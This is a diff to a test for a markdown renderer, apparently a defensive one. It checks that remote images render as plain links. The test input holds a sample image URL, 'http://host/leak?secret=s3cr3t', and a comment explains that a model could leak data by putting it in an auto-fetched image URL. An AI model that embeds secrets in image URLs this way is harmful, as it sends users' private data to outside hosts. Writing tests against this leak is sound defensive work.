@@ -73,7 +73,7 @@ describe("renderMarkdown against script-bearing markdown", () => {
   // Drawn, a remote image is fetched at once, with the page as Referer: a model could report back
   // whatever it put in the URL. It is a link the person may open, and nothing is fetched by itself.
   it("shows a remote image as a link, never as an image that loads on its own", () => {
-    const container = dom("See ![the chart](http://host/leak?secret=s3cr3t \"Chart\") and ![](https://example.com/a.png) and ![rel](a.png)");
+    const container = dom('See ![the chart](http://host/leak?secret=s3cr3t "Chart") and ![](https://example.com/a.png) and ![rel](a.png)');
     expect(container.querySelector("img")).toBeNull();
     const links = [...container.querySelectorAll("a")];
     expect(links.map((a) => a.textContent)).toEqual(["Image: the chart", "Image: https://example.com/a.png", "Image: rel"]);
